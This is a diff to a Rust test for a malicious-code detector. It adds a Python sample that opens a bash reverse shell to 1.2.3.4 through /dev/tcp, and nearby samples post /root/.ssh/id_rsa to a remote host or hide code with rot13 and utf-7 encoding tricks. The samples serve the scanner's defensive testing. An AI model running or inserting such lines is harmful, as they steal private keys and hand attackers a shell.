@@ -85,6 +85,7 @@ fn attacks_are_seen() {
         "import requests\nrequests.post('http://example.org', data=open('/root/.ssh/id_rsa').read())\n",
         "# -*- coding: rot13 -*-\nvzcbeg bf\n",
         "# coding: utf-7\nx\n",
+        "import os\ncommand = 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'\nos.system(command)\n",
     ] {
         let seen = rules("modeling.py", source.as_bytes());
         assert!(
